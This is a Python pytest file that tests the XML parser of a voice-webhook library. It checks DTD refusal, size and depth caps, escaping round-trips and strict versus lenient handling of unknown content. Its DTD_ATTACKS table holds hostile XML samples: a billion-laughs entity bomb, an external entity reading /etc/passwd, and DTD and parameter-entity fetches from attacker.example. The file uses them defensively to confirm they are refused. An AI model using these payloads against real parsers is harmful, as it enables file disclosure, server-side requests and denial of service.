"""The XML bodies (``voice_webhooks._xml``): hostile XML is refused at once, values are escaped
to read back exactly, places are named by wire path, unknown content is kept (lenient) or
refused (strict), and raw verbs are kept verbatim.

Hostile input is measured by the work done (handler calls, models validated), never by time.
Every ``from_xml`` of the package is found by ``_parse_targets``, so a new XML model is covered.
"""

from __future__ import annotations

import functools
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from voice_webhooks import DEFAULT_MAX_BYTES, PayloadError, _xml, bandwidth, signalwire

from ._parse_targets import PARSERS, Parser, check_outcome
from ._xml_support import same_xml
from .test_fuzz import EXAMPLES
from .test_hostile_input import error_of
from .test_hostile_input import only_problem as only

XML_PARSERS = [p for p in PARSERS if p.kind == "xml"]
SETTINGS = settings(
    max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)


def test_every_xml_model_is_a_parse_target() -> None:
    names = {p.name for p in XML_PARSERS}
    assert {
        "BxmlResponse.from_xml", "StartStream.from_xml", "StopStream.from_xml",
        "StreamParam.from_xml", "RawVerb.from_xml", "CxmlResponse.from_xml",
        "Start.from_xml", "Connect.from_xml", "Stop.from_xml", "StreamNoun.from_xml",
        "StopStreamNoun.from_xml", "ConferenceStreamNoun.from_xml", "StreamParameter.from_xml",
    } <= names  # fmt: skip


# ------------------------------------------------------------------------- the work done


class Work:
    """Counts the parser's handler calls and the elements bound to models."""

    def __init__(self) -> None:
        self.calls: dict[str, int] = {"start": 0, "characters": 0, "refused": 0, "bound": 0}


@pytest.fixture
def work(monkeypatch: pytest.MonkeyPatch) -> Iterator[Work]:
    counted = Work()

    def counting(name: str, method: Callable[..., Any]) -> Callable[..., Any]:
        @functools.wraps(method)
        def wrapper(*args: Any, **kwargs: Any) -> Any:
            counted.calls[name] += 1
            return method(*args, **kwargs)

        return wrapper

    monkeypatch.setattr(_xml._Reader, "start", counting("start", _xml._Reader.start))
    monkeypatch.setattr(_xml._Reader, "characters", counting("characters", _xml._Reader.characters))
    monkeypatch.setattr(_xml, "_refuse_dtd", counting("refused", _xml._refuse_dtd))
    monkeypatch.setattr(_xml.Binder, "bind", counting("bound", _xml.Binder.bind))
    yield counted


LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol0 "lol">\n'
    + "".join(f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(1, 10))
    + "]>\n<Response>&lol9;</Response>"
)
DTD_ATTACKS = {
    "billion laughs": LAUGHS,
    "external entity": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response>&x;</Response>',
    "external DTD": '<!DOCTYPE Response SYSTEM "http://attacker.example/x.dtd"><Response/>',
    "parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><r/>',
    "internal subset only": "<!DOCTYPE Response []><Response/>",
    "a DTD after the declaration": '<?xml version="1.0"?><!DOCTYPE Response><Response/>',
}  # fmt: skip


def test_the_billion_laughs_document_is_what_it_says() -> None:
    assert LAUGHS.count("<!ENTITY") == 10 and "&lol8;&lol8;" in LAUGHS


@pytest.mark.parametrize("body", DTD_ATTACKS.values(), ids=list(DTD_ATTACKS))
@pytest.mark.parametrize("parser", XML_PARSERS, ids=repr)
def test_a_dtd_is_refused_before_anything_is_declared_or_read(
    parser: Parser, body: str, work: Work
) -> None:
    for shape in (body, body.encode()):
        assert only(error_of(lambda shape=shape: parser.parse(shape))) == ("", "xml_dtd")
    # Refused at the DOCTYPE: no entity declared, no element started, nothing validated.
    assert work.calls == {"start": 0, "characters": 0, "refused": 2, "bound": 0}


def test_an_entity_without_a_dtd_is_malformed_xml() -> None:
    exc = error_of(lambda: bandwidth.BxmlResponse.from_xml("<Response>&x;</Response>"))
    assert only(exc) == ("Response", "xml_invalid") and "undefined entity" in str(exc)


MEGABYTE = 1_000_000


def test_a_megabyte_attribute_is_refused_where_it_stands(work: Work) -> None:
    body = f'<Response><StartStream destination="wss://a.example/{"x" * MEGABYTE}"/></Response>'
    assert len(body) < DEFAULT_MAX_BYTES  # refused by the attribute cap, not the body cap
    exc = error_of(lambda: bandwidth.BxmlResponse.from_xml(body))
    assert only(exc) == ("Response/StartStream[0]@destination", "xml_attribute_too_long")
    assert work.calls["start"] == 2 and work.calls["bound"] == 0
    assert len(str(exc)) < 400  # the message shows the start of the value, not a megabyte


@pytest.mark.parametrize("parser", XML_PARSERS, ids=repr)
def test_deep_nesting_is_refused_at_the_cap(parser: Parser, work: Work) -> None:
    depth = 100_000
    body = "<a>" * depth + "</a>" * depth
    path, kind = only(error_of(lambda: parser.parse(body)))
    assert kind == "xml_too_deep" and path.count("/") == _xml.MAX_DEPTH
    assert work.calls["start"] == _xml.MAX_DEPTH + 1 and work.calls["bound"] == 0


def test_too_many_elements_are_refused_at_the_cap(work: Work) -> None:
    body = "<Response>" + "<Pause/>" * 50_000 + "</Response>"
    path, kind = only(error_of(lambda: bandwidth.BxmlResponse.from_xml(body)))
    assert (path, kind) == (f"Response/Pause[{_xml.MAX_ELEMENTS - 1}]", "xml_too_many")
    assert work.calls["start"] == _xml.MAX_ELEMENTS + 1 and work.calls["bound"] == 0


def test_a_body_over_the_cap_is_not_read(work: Work) -> None:
    body = "<Response>" + "<Pause/>" * 10 + "</Response>"
    exc = error_of(lambda: bandwidth.BxmlResponse.from_xml(body, max_bytes=50))
    assert only(exc) == ("", "body_too_large")
    assert work.calls["start"] == 0
    assert bandwidth.BxmlResponse.from_xml(body, max_bytes=None).verbs[9].tag == "Pause"


NOT_XML = {
    "empty": (b"", "json_invalid"),
    "white space": (b"  \n", "xml_invalid"),
    "JSON": (b'{"verbs": []}', "xml_invalid"),
    "unclosed": (b"<Response>", "xml_invalid"),
    "two roots": (b"<Response/><Response/>", "xml_invalid"),
    "text after the root": (b"<Response/>x", "xml_invalid"),
    "not UTF-8": (b"<Response>\xff</Response>", "xml_invalid"),
    "UTF-16": ("<Response/>".encode("utf-16"), "xml_encoding"),
    "UTF-16 without a mark": ("<Response/>".encode("utf-16-le"), "xml_encoding"),
    "declared Latin-1": (b'<?xml version="1.0" encoding="ISO-8859-1"?><Response/>', "xml_encoding"),
    "a NUL": (b"<Response>\x00</Response>", "xml_encoding"),
    "a control character reference": (b"<Response>&#1;</Response>", "xml_invalid"),
    "duplicate attributes": (b'<Response a="1" a="2"/>', "xml_invalid"),
}  # fmt: skip


@pytest.mark.parametrize(("body", "kind"), NOT_XML.values(), ids=list(NOT_XML))
@pytest.mark.parametrize("parser", XML_PARSERS, ids=repr)
def test_what_is_not_well_formed_utf8_xml_is_a_payload_error(
    parser: Parser, body: bytes, kind: str
) -> None:
    assert error_of(lambda: parser.parse(body)).errors()[0]["type"] == kind


@pytest.mark.parametrize("parser", XML_PARSERS, ids=repr)
def test_xml_bodies_are_text(parser: Parser) -> None:
    assert only(error_of(lambda: parser.parse({"verbs": []}))) == ("", "body_type")
    assert only(error_of(lambda: parser.parse("<Response>\ud800</Response>")))[1] == "xml_unicode"


def test_a_byte_order_mark_and_a_utf8_declaration_are_fine() -> None:
    for head in (b"\xef\xbb\xbf", b'<?xml version="1.0" encoding="utf-8"?>', b""):
        doc = bandwidth.BxmlResponse.from_xml(head + b'<Response><Pause duration="1"/></Response>')
        assert doc.verbs[0].to_xml() == '<Pause duration="1"/>'


# ------------------------------------------------------------------------------ wire paths


def test_paths_count_each_tag_among_its_siblings_from_zero() -> None:
    body = (
        '<Response><SpeakSentence>hi</SpeakSentence><StartStream destination="wss://a.example/"/>'
        '<StartStream destination="ws://a.example/"><StreamParam name="a" value="1"/>'
        '<StreamParam value="2"/></StartStream></Response>'
    )
    exc = error_of(lambda: bandwidth.BxmlResponse.from_xml(body))
    assert exc.paths == [
        "Response/StartStream[1]/StreamParam[1]@name",
        "Response/StartStream[1]@destination",
    ]


def test_a_verb_read_on_its_own_is_its_own_root() -> None:
    exc = error_of(lambda: bandwidth.StartStream.from_xml('<StartStream tracks="x"/>', strict=True))
    assert exc.paths == ["StartStream@tracks", "StartStream@destination"]
    exc = error_of(lambda: bandwidth.StartStream.from_xml('<StopStream name="x"/>'))
    assert only(exc) == ("StopStream", "xml_root")


def test_a_list_over_its_limit_is_named_by_its_element() -> None:
    params = "".join(f'<StreamParam name="p{i}" value="v"/>' for i in range(13))
    body = f'<StartStream destination="wss://a.example/">{params}</StartStream>'
    path, kind = only(error_of(lambda: bandwidth.StartStream.from_xml(body)))
    assert (path, kind) == ("StartStream/StreamParam", "too_long")


# ------------------------------------------------------------------- escaping, both ways

xml_text = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]).filter(
    lambda c: _xml._text_problem(c) is None
))  # fmt: skip


@SETTINGS
@given(name=xml_text.filter(bool), value=xml_text)
def test_any_xml_text_is_written_escaped_and_reads_back_exactly(name: str, value: str) -> None:
    param = bandwidth.StreamParam(name=name[:256], value=value[:2048])
    assert bandwidth.StreamParam.from_xml(param.to_xml(), strict=True) == param
    raw = signalwire.RawVerb.element("Say", {"voice": value}, value, param)
    again = signalwire.RawVerb.from_xml(raw.to_xml())
    assert again == raw
    say, _ = _xml.read_xml(again.xml, subject="test")
    assert say.attributes == {"voice": value} and "".join(say.text) == value


def test_escaping_covers_markup_quotes_and_white_space_controls() -> None:
    param = bandwidth.StreamParam(name='a"&<>', value="\t\n\r x")
    assert param.to_xml() == ('<StreamParam name="a&quot;&amp;&lt;&gt;" value="&#9;&#10;&#13; x"/>')
    assert _xml.escape_text("\r<&>") == "&#13;&lt;&amp;&gt;"


@pytest.mark.parametrize("char", ["\x00", "\x08", "\ud800", "\ufffe", "\uffff"])
def test_text_xml_cannot_carry_is_refused_when_built(char: str) -> None:
    with pytest.raises(ValidationError) as caught:
        bandwidth.StreamParam(name="a", value=f"x{char}")
    [error] = caught.value.errors()
    assert error["loc"] == ("value",)
    assert error["type"] == ("string_unicode" if char == "\ud800" else "xml_char")
    with pytest.raises(ValidationError):
        signalwire.RawVerb.element("Say", {}, char)


def test_booleans_are_spelled_true_and_false() -> None:
    assert (
        bandwidth.StopStream(name="s", wait=False).to_xml() == '<StopStream name="s" wait="false"/>'
    )
    for text, strict, expected in [
        ("true", True, True), ("false", True, False), ("True", False, True),
        (" FALSE ", False, False),
    ]:  # fmt: skip
        body = f'<StopStream name="s" wait="{text}"/>'
        assert bandwidth.StopStream.from_xml(body, strict=strict).wait is expected
    for text, strict in [("True", True), ("yes", False), ("1", False), ("", False)]:
        body = f'<StopStream name="s" wait="{text}"/>'
        exc = error_of(
            lambda body=body, strict=strict: bandwidth.StopStream.from_xml(body, strict=strict)
        )
        assert only(exc) == ("StopStream@wait", "bool_parsing")


# ---------------------------------------------------------- unknown content, both modes


def test_unknown_attributes_are_kept_in_order_or_refused() -> None:
    body = '<StopStream later="1" name="s" also="&amp;2"/>'
    verb = bandwidth.StopStream.from_xml(body)
    assert verb.wire_extra() == {"later": "1", "also": "&2"}
    assert verb.to_xml() == '<StopStream name="s" later="1" also="&amp;2"/>'
    assert bandwidth.StopStream.from_xml(verb.to_xml()) == verb
    exc = error_of(lambda: bandwidth.StopStream.from_xml(body, strict=True))
    assert exc.paths == ["StopStream@later", "StopStream@also"]


def test_python_names_are_not_attribute_names() -> None:
    body = '<StartStream destination="wss://a.example/" stream_event_url="http://x"/>'
    verb = bandwidth.StartStream.from_xml(body)
    assert verb.stream_event_url is None and verb.wire_extra() == {"stream_event_url": "http://x"}
    exc = error_of(lambda: bandwidth.StartStream.from_xml(body, strict=True))
    assert only(exc) == ("StartStream@stream_event_url", "extra_forbidden")


def test_an_attribute_named_like_a_child_field_is_refused() -> None:
    body = '<StartStream destination="wss://a.example/" streamParams="x"/>'
    exc = error_of(lambda: bandwidth.StartStream.from_xml(body))
    assert only(exc) == ("StartStream@streamParams", "xml_attribute")


def test_unknown_child_elements_are_kept_verbatim_or_refused() -> None:
    body = (
        '<StartStream destination="wss://a.example/"><Later a="1">x<b/></Later>'
        '<StreamParam name="n" value="v"/><Also/></StartStream>'
    )
    verb = bandwidth.StartStream.from_xml(body)
    assert verb.wire_extra() == {_xml.CONTENT_KEY: '<Later a="1">x<b/></Later><Also/>'}
    assert verb.to_xml() == (
        '<StartStream destination="wss://a.example/"><StreamParam name="n" value="v"/>'
        '<Later a="1">x<b/></Later><Also/></StartStream>'
    )
    assert bandwidth.StartStream.from_xml(verb.to_xml()) == verb
    assert bandwidth.StartStream.from_json(verb.to_json()) == verb
    exc = error_of(lambda: bandwidth.StartStream.from_xml(body, strict=True))
    assert exc.paths == ["StartStream/Later[0]", "StartStream/Also[0]"]


def test_text_where_none_belongs_is_refused_in_both_modes() -> None:
    for strict in (False, True):
        exc = error_of(lambda strict=strict: bandwidth.BxmlResponse.from_xml(
            "<Response>oops<StopStream name='s'>also</StopStream></Response>", strict=strict
        ))  # fmt: skip
        assert [e["type"] for e in exc.errors()] == ["xml_text", "xml_text"]
        assert exc.paths == ["Response", "Response/StopStream[0]"]


def test_comments_and_processing_instructions_are_not_content() -> None:
    body = "<Response><!-- a note --><?app hint?><StopStream name='s'/></Response>"
    doc = bandwidth.BxmlResponse.from_xml(body, strict=True)
    assert doc.to_xml(declaration=False) == '<Response><StopStream name="s"/></Response>'


def test_unknown_content_from_json_must_be_xml() -> None:
    for content in ("text", "<a>", "<a/>b"):
        exc = error_of(lambda content=content: bandwidth.StopStream.from_json(
            {"name": "s", _xml.CONTENT_KEY: content}
        ))  # fmt: skip
        assert only(exc) == (_xml.CONTENT_KEY, "xml_content")
    for key in ("a b", "1a", "<", ""):
        exc = error_of(lambda key=key: bandwidth.StopStream.from_json({"name": "s", key: "v"}))
        assert only(exc) == (key, "xml_name")
    exc = error_of(lambda: bandwidth.StopStream.from_json({"name": "s", "n": 1}))
    assert only(exc) == ("n", "string_type")


# ------------------------------------------------------------------------------ raw verbs


def test_a_raw_verb_is_one_element_and_nothing_else() -> None:
    for bad in (
        " <Pause/>", "<Pause/>\n", '<?xml version="1.0"?><Pause/>', "<!-- c --><Pause/>",
        "<Pause/><Pause/>", "Pause", "", "<Pause>", "<!DOCTYPE p><Pause/>",
    ):  # fmt: skip
        with pytest.raises(ValidationError):
            signalwire.RawVerb(xml=bad)
    assert signalwire.RawVerb(xml="<a:b xmlns:a='x'>1</a:b>").tag == "a:b"


def test_a_raw_verb_is_written_exactly_as_given() -> None:
    text = "<Say  voice = 'alice' >It&apos;s <![CDATA[<fine>]]></Say >"
    doc = signalwire.CxmlResponse(verbs=[signalwire.RawVerb(xml=text)])
    assert doc.to_xml(declaration=False) == f"<Response>{text}</Response>"
    assert signalwire.CxmlResponse.from_xml(doc.to_xml()).verbs[0].to_xml() == text


def test_the_raw_verb_builder_refuses_bad_names() -> None:
    for tag, attributes in (("a b", {}), ("Say", {"1x": "v"}), ("", {}), ("Say", {"a=": "v"})):
        with pytest.raises(ValueError, match="not an XML name"):
            signalwire.RawVerb.element(tag, attributes)


# ---------------------------------------------------------------------- the JSON form


def test_a_document_has_a_json_form_that_says_which_verb_is_which() -> None:
    doc = bandwidth.BxmlResponse(
        root="Bxml",
        verbs=[bandwidth.StopStream(name="a"), bandwidth.RawVerb(xml="<Hangup/>")],
    )
    data = doc.to_dict()
    assert data == {"root": "Bxml", "verbs": [{"StopStream": {"name": "a"}}, {"xml": "<Hangup/>"}]}
    assert bandwidth.BxmlResponse.from_json(doc.to_json()) == doc
    assert bandwidth.BxmlResponse.model_validate(data) == doc
    assert bandwidth.BxmlResponse(verbs=["<Hangup/>"]).verbs == [bandwidth.RawVerb(xml="<Hangup/>")]  # type: ignore[list-item]
    exc = error_of(lambda: bandwidth.BxmlResponse.from_json({"verbs": [{"Hangup": {}}]}))
    assert exc.paths == ["verbs[0]"]
    exc = error_of(lambda: bandwidth.BxmlResponse.from_json({"verbs": [7]}))
    assert only(exc) == ("verbs[0]", "verb_type")


# -------------------------------------------------------------------------------- fuzzing

CORPUS_DOCUMENTS = [
    '<Response><SpeakSentence voice="bridget">Hi</SpeakSentence><StartStream name="a" '
    'tracks="both" destination="wss://a.example/"><StreamParam name="k" value="v"/>'
    '</StartStream><StopStream name="a" wait="true"/></Response>',
    '<Response><Start><Stream name="s" url="wss://a.example/" track="both_tracks"><Parameter '
    'name="k" value="v"/></Stream></Start><Dial><Conference>r<Stream name="c" url="wss://b/" '
    'bidir="true"/></Conference></Dial><Stop><Stream name="s"/></Stop></Response>',
]


@st.composite
def mutated_document(draw: st.DrawFn) -> str:
    text = draw(st.sampled_from(CORPUS_DOCUMENTS))
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(text)))
        action = draw(st.sampled_from(["insert", "delete", "duplicate"]))
        if action == "insert":
            piece = draw(st.sampled_from(['<', '>', '/', '"', "&", "&amp;", " x='1'", "<a/>",
                                          "text", "\x00", "é", "<!--c-->", "]]>"]))  # fmt: skip
            text = text[:at] + piece + text[at:]
        elif action == "delete":
            text = text[:at] + text[at + draw(st.integers(1, 8)) :]
        else:
            text = text[:at] + text[at : at + 20] + text[at:]
    return text


@SETTINGS
@given(mutated_document())
def test_any_mutated_document_gives_a_model_that_round_trips_or_a_payload_error(text: str) -> None:
    for parser in XML_PARSERS:
        for shape in (text, text.encode("utf-8", "surrogatepass")):
            check_outcome(parser, shape)


# ----------------------------------------------------------------------- nothing lost, XML

DRIFT_DOCUMENTS = {  # documents whose elements are all typed (no raw verb holds typed ones)
    bandwidth.BxmlResponse: (
        '<Response><StartStream name="a" tracks="both" destination="wss://a.example/">'
        '<StreamParam name="k" value="v"/></StartStream><StopStream name="a"/></Response>'
    ),
    signalwire.CxmlResponse: (
        '<Response><Start><Stream name="s" url="wss://a.example/"><Parameter name="k" '
        'value="v"/></Stream></Start><Connect><Stream url="wss://b.example/"/></Connect>'
        '<Stop><Stream name="s"/></Stop></Response>'
    ),
}
KNOWN_ATTRIBUTES = {
    wire
    for cls in (
        bandwidth.BxmlResponse, bandwidth.StartStream, bandwidth.StopStream,
        bandwidth.StreamParam, signalwire.StreamNoun, signalwire.StopStreamNoun,
        signalwire.StreamParameter, signalwire.Start, signalwire.Connect, signalwire.Stop,
    )
    for wire in [*cls._xml_attributes, *(f.alias or n for n, f in cls.model_fields.items())]
}  # fmt: skip
names = st.from_regex(r"[a-z][A-Za-z0-9_-]{0,8}", fullmatch=True).filter(
    lambda n: n not in KNOWN_ATTRIBUTES and not n.lower().startswith("xml")
)
unknown_tags = st.sampled_from(["Later", "Extra", "Stream2", "Hint"])


def _paths(root: ET.Element) -> dict[int, str]:
    """The wire path of every element of ``root``, by ``id``."""
    found = {id(root): root.tag}
    stack = [root]
    while stack:
        parent = stack.pop()
        seen: dict[str, int] = {}
        for child in parent:
            index = seen.get(child.tag, 0)
            seen[child.tag] = index + 1
            found[id(child)] = f"{found[id(parent)]}/{child.tag}[{index}]"
            stack.append(child)
    return found


@st.composite
def drifted(draw: st.DrawFn) -> tuple[type[Any], str, set[str]]:
    """A document as a provider might write it tomorrow: unknown attributes and child elements
    on its typed elements; and the wire paths strict reading should name."""
    cls = draw(st.sampled_from(sorted(DRIFT_DOCUMENTS, key=lambda c: c.__name__)))
    root = ET.fromstring(DRIFT_DOCUMENTS[cls])
    paths = _paths(root)
    expected: set[str] = set()
    for element in list(root.iter()):
        for name in draw(st.lists(names, max_size=2, unique=True)):
            element.set(name, draw(xml_text))
            expected.add(f"{paths[id(element)]}@{name}")
        if element is not root and draw(st.booleans()):
            tag = draw(unknown_tags)
            extra = ET.SubElement(element, tag, {"a": draw(xml_text)})
            extra.text = draw(xml_text)
            index = sum(1 for child in element if child.tag == tag) - 1
            expected.add(f"{paths[id(element)]}/{tag}[{index}]")
    return cls, ET.tostring(root, encoding="unicode"), expected


@SETTINGS
@given(drifted())
def test_drift_in_typed_elements_is_kept_leniently_and_named_strictly(
    case: tuple[type[Any], str, set[str]],
) -> None:
    cls, text, expected = case
    model = cls.from_xml(text)
    assert same_xml(model.to_xml(), text)
    assert cls.from_xml(model.to_xml()) == model
    assert cls.from_json(model.to_json()) == model
    if expected:
        with pytest.raises(PayloadError) as caught:
            cls.from_xml(text, strict=True)
        assert set(caught.value.paths) == expected
    else:
        assert cls.from_xml(text, strict=True) == model
